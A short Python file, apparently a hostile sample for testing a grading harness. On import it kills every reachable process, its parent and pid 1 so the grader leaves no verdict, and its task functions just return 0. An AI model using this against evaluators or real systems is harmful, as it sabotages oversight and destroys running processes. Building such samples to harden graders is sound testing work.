"""Hostile: signal every process it can reach (kill -1), its parent and pid 1, hoping to
take the grader down with it and leave no verdict."""

import contextlib
import os
import signal

for target in (-1, os.getppid(), 1):
    for sig in (signal.SIGTERM, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(target, sig)


def add(a, b):
    return 0


def total(path="data/numbers.csv"):
    return 0
